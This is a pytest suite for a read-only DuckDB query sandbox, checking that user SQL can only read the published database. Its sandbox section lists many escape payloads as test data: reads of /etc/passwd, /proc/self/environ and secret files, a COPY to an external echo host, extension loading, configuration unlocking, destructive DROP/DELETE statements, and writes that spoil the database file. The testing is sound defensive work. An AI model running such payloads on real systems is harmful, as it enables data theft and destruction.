"""The published database is read, and nothing else: no writes, no files, no network."""

from collections.abc import Callable, Sequence
from hashlib import md5
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from crawler.errors import StorageError, UsageError
from pipeline.store import SCHEMA, STORAGE_VERSION
from reports.database import open_database, query, run_checks

NOISE = [f"{n}" for n in range(2_000)]  # provenance rows: more than one block of data


def make_database(path: Path, *statements: str) -> Path:
    """A published database as store.publish makes one, filled by some statements."""
    with duckdb.connect() as con:
        con.execute(f"ATTACH '{path}' AS pub (STORAGE_VERSION '{STORAGE_VERSION}')")
        con.execute("USE pub")
        con.execute(SCHEMA.read_text("utf-8"))
        for statement in statements:
            con.execute(statement)
        con.execute("USE memory")
        con.execute("DETACH pub")
    return path


@pytest.fixture
def database(tmp_path: Path) -> Path:
    return make_database(
        tmp_path / "tocsin.duckdb",
        "INSERT INTO provenance SELECT i, md5(i::VARCHAR) FROM range(2000) AS t(i)",
    )


def files(folder: Path) -> dict[str, bytes]:
    """Every file and folder under a folder, with the bytes of each file."""
    paths = sorted(folder.rglob("*"))
    return {str(path): path.read_bytes() if path.is_file() else b"" for path in paths}


# Reading


def test_a_query_gives_columns_and_rows(database: Path) -> None:
    found = query(database, "SELECT count(*) AS facts, NULL AS nothing FROM provenance")
    assert found == (["facts", "nothing"], [(2_000, None)])


def test_all_rows_are_as_they_were_written(database: Path) -> None:
    _, rows = query(database, "SELECT value FROM provenance ORDER BY key::INTEGER")
    assert rows == [(md5(n.encode()).hexdigest(),) for n in NOISE]


def test_readers_do_not_wait_for_each_other(database: Path) -> None:
    with open_database(database) as first, open_database(database) as second:
        counts = [con.execute("SELECT count(*) FROM provenance") for con in (first, second)]
        assert [count.fetchall() for count in counts] == [[(2_000,)], [(2_000,)]]


def test_a_reader_keeps_the_file_that_it_opened(database: Path) -> None:
    with open_database(database) as con:
        make_database(database.with_suffix(".new")).replace(database)
        assert con.execute("SELECT count(*) FROM provenance").fetchall() == [(2_000,)]
    assert query(database, "SELECT count(*) FROM provenance")[1] == [(0,)]


@pytest.mark.parametrize("sql", ["SELECT", "SELEKT 1", "FROM nowhere", "SELECT ?", "SELECT 1/'x'"])
def test_wrong_sql_is_a_usage_error_of_one_line(database: Path, sql: str) -> None:
    with pytest.raises(UsageError, match=r"^query: .*\w") as error:
        query(database, sql)
    assert "\n" not in str(error.value)


@pytest.mark.parametrize("sql", ["", " \n", "-- nothing", ";"])
def test_sql_that_says_nothing_is_a_usage_error(database: Path, sql: str) -> None:
    with pytest.raises(UsageError, match="query"):
        query(database, sql)


def test_a_check_counts_the_rows_that_it_finds(database: Path, tmp_path: Path) -> None:
    folder = tmp_path / "checks"
    folder.mkdir()
    (folder / "none.sql").write_text("-- Nothing.\nFROM article")
    (folder / "three.sql").write_text("FROM provenance LIMIT 3;\n")
    assert run_checks(database, folder) == {"none": 0, "three": 3}


# The sandbox

# Why DuckDB refuses: an escape that failed for another reason would prove nothing.
REFUSED = (
    r"disabled (by|through) configuration|configuration has been locked|in read-only mode"
    r"|Table with name .*secret\.csv does not exist"
    r"|is not in the catalog, but it exists in the \w+ ext|requires the extension httpfs"
)
# Why we refuse, before DuckDB is asked.
NO_SELECT = r"one SELECT is|more than one statement|must be at the top level|syntax error"
READS = [
    "FROM read_csv('{secret}')",
    "FROM read_csv_auto('{secret}')",
    "FROM read_text('{secret}')",
    "FROM read_blob('{secret}')",
    "FROM read_json('{secret}')",
    "FROM read_ndjson('{secret}')",
    "FROM read_json_objects('{secret}')",
    "FROM read_parquet('{secret}')",
    "FROM parquet_metadata('{secret}')",
    "FROM parquet_schema('{secret}')",
    "FROM sniff_csv('{secret}')",
    "FROM '{secret}'",
    "FROM read_csv('/etc/passwd')",
    "FROM read_text('/etc/passwd')",
    "FROM read_text('/proc/self/environ')",
    "FROM read_blob('/dev/stdin')",
    "FROM glob('/etc/passwd')",
    "FROM glob('{folder}/*')",
    "FROM glob('*')",
    "FROM read_duckdb('{folder}/other.duckdb', table_name = 'provenance')",
    "FROM '{folder}/other.duckdb'",
    "FROM read_text('{database}/../secret.csv')",
    "FROM read_text('{database}.wal/../secret.csv')",
    "FROM query('FROM read_text(''{secret}'')')",
    "FROM query_table('{secret}')",
    "FROM query_table(['{secret}'])",
    "FROM json_execute_serialized_sql(json_serialize_sql('FROM read_text(''{secret}'')'))",
    "SELECT (SELECT content FROM read_text('{secret}'))",
    "WITH stolen AS (FROM read_text('{secret}')) FROM stolen",
    "DESCRIBE FROM read_csv('{secret}')",
    "SUMMARIZE FROM read_csv('{secret}')",
    "PIVOT (FROM read_csv('{secret}')) ON a USING count(*)",
    "EXPLAIN ANALYZE FROM read_text('{secret}')",
    "PREPARE stolen AS FROM read_text('{secret}')",
    "SET VARIABLE stolen = (SELECT content FROM read_text('{secret}'))",
    "CREATE TEMP TABLE stolen AS FROM read_text('{secret}')",
    "CREATE TEMP VIEW stolen AS FROM read_text('{secret}')",
    "CREATE TEMP MACRO stolen() AS TABLE FROM read_text('{secret}')",
    "COPY article FROM '{secret}'",
    "IMPORT DATABASE '{folder}'",
    "FROM duckdb_secrets()",
    "FROM which_secret('s3://bucket/key', 's3')",
    "FROM duckdb_extensions()",
]
NETWORK = [
    "FROM read_csv('https://echo.example/a.csv')",
    "FROM read_text('s3://bucket/key')",
    "FROM 'https://echo.example/a.parquet'",
    "COPY (SELECT 1) TO 'https://echo.example/a.csv'",
    "ATTACH 'https://echo.example/a.duckdb' AS far",
    "ATTACH 'ducklake:{folder}/lake' AS lake",
    "ATTACH 'quack:localhost:1294' AS far",
    "ATTACH 'dbname=far' AS far (TYPE postgres)",
    "FROM quack_query('quack:localhost:1294', 'SELECT 1')",
    "CALL quack_serve('quack:localhost:1294')",
    "FROM sqlite_scan('{folder}/other.sqlite', 'page')",
    "FROM read_xlsx('{secret}')",
    "FROM iceberg_scan('{folder}')",
    "CALL start_ui()",
]
WRITES = [
    "COPY (SELECT 1) TO '{folder}/out.csv'",
    "COPY article TO '{folder}/out.parquet' (FORMAT parquet)",
    "COPY (SELECT 1 AS a, 2 AS b) TO '{folder}/parts' (FORMAT csv, PARTITION_BY (a))",
    "COPY (SELECT 1) TO '/dev/stdout'",
    "COPY (SELECT 1) TO '{database}.tmp'",
    "COPY (SELECT 1) TO '{database}.wal/../out.csv'",
    "EXPORT DATABASE '{folder}/exported'",
    "ATTACH '{folder}/other.duckdb' (READ_ONLY)",
    "ATTACH '{folder}/out.duckdb'",
    "ATTACH ':memory:' AS scratch",
    "ATTACH '{folder}/out.sqlite' (TYPE sqlite)",
    "CREATE TABLE evil (i INTEGER)",
    "CREATE OR REPLACE TABLE article (i INTEGER)",
    "CREATE VIEW evil AS SELECT 1",
    "CREATE MACRO evil(a) AS a",
    "CREATE SCHEMA evil",
    "CREATE SECRET evil (TYPE s3)",
    "CREATE PERSISTENT SECRET evil (TYPE s3)",
    "INSERT INTO provenance VALUES ('a', 'b')",
    "WITH gone AS (DELETE FROM provenance RETURNING key) FROM gone",
    "UPDATE provenance SET value = ''",
    "DELETE FROM provenance",
    "TRUNCATE provenance",
    "DROP TABLE article",
    "ALTER TABLE article DROP COLUMN text",
    "COMMENT ON TABLE article IS ''",
    "SELECT 1; DROP TABLE article",
    "BEGIN; INSERT INTO provenance VALUES ('a', 'b')",
]
SETTINGS = [
    "INSTALL httpfs",
    "FORCE INSTALL httpfs",
    "INSTALL h3 FROM community",
    "INSTALL httpfs FROM 'http://echo.example'",
    "INSTALL '{folder}/evil.duckdb_extension'",
    "UPDATE EXTENSIONS",
    "LOAD httpfs",
    "LOAD '{folder}/evil.duckdb_extension'",
    "SET enable_external_access = true",
    "SET SESSION enable_external_access = true",
    "SET lock_configuration = false",
    "RESET lock_configuration",
    "RESET GLOBAL enable_external_access",
    "SET GLOBAL memory_limit = '64GB'",
    "SET threads = 64",
    "SET python_enable_replacements = true",
    "SET allow_unsigned_extensions = true",
    "SET allow_community_extensions = true",
    "SET autoload_known_extensions = true",
    "SET custom_extension_repository = 'http://echo.example'",
    "SET extension_directory = '{folder}'",
    "SET home_directory = '{folder}'",
    "SET http_proxy = 'echo.example:80'",
    "SET temp_directory = '{folder}/spill'",
    "SET max_temp_directory_size = '1TB'",
    "SET allowed_directories = ['/']",
    "SET allowed_paths = ['/etc/passwd']",
    "SET secret_directory = '{folder}'",
    "SET log_query_path = '{folder}/log'",
    "SET enable_logging = true",
    "PRAGMA enable_profiling = 'json'",
    "SET profiling_output = '{folder}/profile.json'",
    "PRAGMA profiling_output = '{folder}/profile.json'",
    "PRAGMA memory_limit = '64GB'",
    "CALL enable_logging(storage = 'file', storage_path = '{folder}')",
    "FROM enable_logging(storage = 'file', storage_path = '{folder}')",
    "PRAGMA force_checkpoint",
]
# What the settings of DuckDB 2.0 let through: the first three overwrite or spoil the database.
OPEN = [
    "COPY (SELECT 1) TO '{database}' (USE_TMP_FILE false)",
    "COPY (SELECT 1) TO '{database}.wal'",
    "WITH spoilt AS (COPY (SELECT 1) TO '{database}.wal') FROM spoilt",
    "COPY (PIVOT provenance ON key USING count(*)) TO '{database}.wal'",
    "SELECT 1) UNION ALL (WITH spoilt AS (COPY (SELECT 1) TO '{database}.wal') FROM spoilt",
    "FROM query('WITH spoilt AS (COPY (SELECT 1) TO ''{database}.wal'') FROM spoilt')",
    "EXPLAIN ANALYZE COPY (SELECT 1) TO '{database}.wal'",
    "PREPARE spoilt AS COPY (SELECT 1) TO '{database}.wal'",
    "ATTACH '{database}' AS again",
    "CHECKPOINT",
    "VACUUM",
    "LOAD icu",
    "PRAGMA add_parquet_key('name', '0123456789112345')",
    "CALL truncate_duckdb_logs()",
    "CREATE TEMP TABLE scratch AS SELECT 1",
]
ESCAPES = [*READS, *NETWORK, *WRITES, *SETTINGS]


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a database, and beside it something to steal."""
    folder = tmp_path_factory.mktemp("scene")
    make_database(folder / "tocsin.duckdb", "INSERT INTO provenance VALUES ('1', 'a')")
    make_database(folder / "other.duckdb")
    (folder / "secret.csv").write_text("a,b\n1,2\n")
    return folder


def placed(escape: str, folder: Path) -> str:
    """An escape that knows where things lie."""
    database, secret = folder / "tocsin.duckdb", folder / "secret.csv"
    return escape.format(folder=folder, database=database, secret=secret)


@pytest.mark.parametrize("escape", [*ESCAPES, *OPEN])
def test_an_escape_is_refused_and_leaves_no_file(scene: Path, escape: str) -> None:
    before = files(scene)
    with pytest.raises(UsageError, match=f"{REFUSED}|{NO_SELECT}"):
        query(scene / "tocsin.duckdb", placed(escape, scene))
    assert files(scene) == before


@pytest.mark.parametrize("escape", ESCAPES)
def test_duckdb_by_itself_refuses_what_its_settings_cover(scene: Path, escape: str) -> None:
    before = files(scene)
    with open_database(scene / "tocsin.duckdb") as con, pytest.raises(duckdb.Error, match=REFUSED):
        con.execute(placed(escape, scene)).fetchall()
    assert files(scene) == before


@pytest.mark.parametrize("escape", OPEN[:3])
def test_duckdb_by_itself_lets_a_copy_through_to_its_own_files(
    database: Path, tmp_path: Path, escape: str
) -> None:
    # When this fails, DuckDB has closed the gap that `one_select` is for.
    before = files(tmp_path)
    with open_database(database) as con:
        con.execute(placed(escape, tmp_path)).fetchall()
    assert files(tmp_path) != before


@pytest.mark.parametrize("name", ["HOME", "PATH"])
def test_a_query_does_not_see_the_environment(database: Path, name: str) -> None:
    with pytest.raises(UsageError, match="name getenv does not exist"):
        query(database, f"SELECT getenv('{name}')")


@pytest.mark.parametrize(
    ("sql", "rows"),
    [
        ("SELECT 1; -- done", [(1,)]),
        ("SELECT ';' ;; /* ; */ ;", [(";",)]),
        ("SELECT 'Zoë; £9m'; -- é", [("Zoë; £9m",)]),
        ("SELECT 'Zoë; £9m' AS é -- ;", [("Zoë; £9m",)]),
        ("-- first\nSELECT 2", [(2,)]),
        ("FROM range(2)", [(0,), (1,)]),
        ("VALUES (3)", [(3,)]),
        ("WITH a AS (SELECT 4) FROM a", [(4,)]),
        ("(SELECT 5)", [(5,)]),
        ("SELECT 6 ORDER BY 1 LIMIT 1", [(6,)]),
        ("FROM range(3) ORDER BY ALL DESC", [(2,), (1,), (0,)]),
        ("SELECT 1 AS a, 2 AS a", [(1, 2)]),
        ("PIVOT (SELECT 1 AS v, 'x' AS k) ON k USING sum(v)", [(1,)]),
        ("UNPIVOT (SELECT 1 AS a, 2 AS b) ON a, b", [("a", 1), ("b", 2)]),
    ],
)
def test_whatever_only_reads_is_run(database: Path, sql: str, rows: list[object]) -> None:
    assert query(database, sql)[1] == rows


@pytest.mark.parametrize("sql", ["DESCRIBE article", "SHOW TABLES", "SUMMARIZE tag", "TABLE run"])
def test_a_database_tells_what_is_in_it(database: Path, sql: str) -> None:
    columns, _ = query(database, sql)
    assert {"column_name", "name", "id"} & set(columns)


@pytest.mark.parametrize("name", ["path", "sql", "SANDBOX"])
def test_a_query_does_not_see_the_program_s_variables(database: Path, name: str) -> None:
    with pytest.raises(UsageError, match=f"Table with name {name} does not exist"):
        query(database, f"FROM {name}")


def test_a_connection_does_not_see_a_frame_in_scope(database: Path) -> None:
    frame = pd.DataFrame({"secret": [1]})
    with open_database(database) as con, pytest.raises(duckdb.CatalogException, match="frame"):
        con.execute("FROM frame")
    assert len(frame) == 1


# Files that are no database

Reader = Callable[[Path], object]
READERS: Sequence[Reader] = (
    lambda path: query(path, "FROM provenance"),
    lambda path: run_checks(path, path.parent),
)


@pytest.fixture(params=READERS, ids=["query", "run_checks"])
def read(request: pytest.FixtureRequest, tmp_path: Path) -> Reader:
    """Every way to read all of a table."""
    (tmp_path / "all.sql").write_text("FROM provenance")
    reader: Reader = request.param
    return reader


def test_a_missing_database_is_a_usage_error_that_says_what_to_do(
    tmp_path: Path, read: Reader
) -> None:
    with pytest.raises(UsageError, match=r"absent\.duckdb: no database yet; 'tocsin build'"):
        read(tmp_path / "absent.duckdb")
    assert not (tmp_path / "absent.duckdb").exists()


@pytest.mark.parametrize(
    "damage",
    [
        pytest.param(lambda good: good[:0], id="empty"),
        pytest.param(lambda good: b"id,title\n" * len(good), id="text"),
        pytest.param(lambda good: good[:4096], id="header-alone"),
        pytest.param(lambda good: b"\0" * 12_288 + good[12_288:], id="header-lost"),
        pytest.param(lambda good: good[:12_288] + b"\xff" * len(good), id="blocks-overwritten"),
        pytest.param(lambda good: good[: len(good) // 2], id="cut-in-half"),
    ],
)
def test_a_damaged_database_is_a_storage_error(
    database: Path, read: Reader, damage: Callable[[bytes], bytes]
) -> None:
    database.write_bytes(damage(database.read_bytes()))
    with pytest.raises(StorageError, match=r"tocsin\.duckdb"):
        read(database)


def test_a_folder_in_place_of_the_database_is_a_storage_error(tmp_path: Path) -> None:
    with pytest.raises(StorageError):
        query(tmp_path, "SELECT 1")
